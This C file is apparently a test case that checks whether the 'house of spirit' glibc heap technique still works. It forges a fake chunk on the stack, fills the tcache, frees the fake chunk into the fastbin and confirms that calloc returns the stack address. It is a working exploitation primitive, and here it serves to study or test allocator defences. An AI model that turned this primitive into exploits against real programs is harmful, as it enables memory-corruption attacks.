/* Technique: house of spirit (how2heap house_of_spirit, glibc 2.26+
   form through the fastbin).

   Goal: calloc returns a chosen address (a fake chunk on the stack).

   How: a fake 0x40 chunk is laid out on the stack, with a plausible
   size for the chunk after it (the "invalid next size (fast)" check).
   With the 0x40 tcache bin full, free () of the fake chunk's user
   pointer puts it into the fastbin; calloc, which does not take from
   the tcache, returns it.  */
#include "attack.h"

int
main (void)
{
  attack_init ("house_of_spirit: free of a fake stack chunk into the fastbin");
  _Alignas (16) size_t fake[12] = { 0 };
  void *fill[7];
  for (int i = 0; i < 7; i++)
    fill[i] = malloc (0x38);
  for (int i = 0; i < 7; i++)
    free (fill[i]);
  fake[1] = 0x40;		/* the fake chunk's size */
  fake[9] = 0x1234;		/* the next chunk's size */
  say ("fake chunk %p", fake);
  free (&fake[2]);
  void *p = calloc (1, 0x38);
  say ("calloc (1, 0x38) = %p", p);
  if (p == (void *) &fake[2])
    reached ("calloc returned the stack address %p", p);
  no_effect ("calloc returned %p, not %p", p, &fake[2]);
}
